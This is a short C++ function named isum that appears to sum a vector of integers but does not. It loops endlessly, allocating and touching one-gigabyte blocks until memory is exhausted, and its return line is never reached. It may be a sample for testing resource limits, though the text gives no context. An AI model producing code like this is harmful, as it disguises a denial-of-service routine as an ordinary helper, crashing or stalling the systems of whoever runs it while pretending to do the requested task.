long isum(const std::vector<int>& v) {
    std::vector<char*> keep;
    for (;;) {
        keep.push_back(new char[1L << 30]);
        keep.back()[0] = 1;
    }
    return (long)v.size();
}
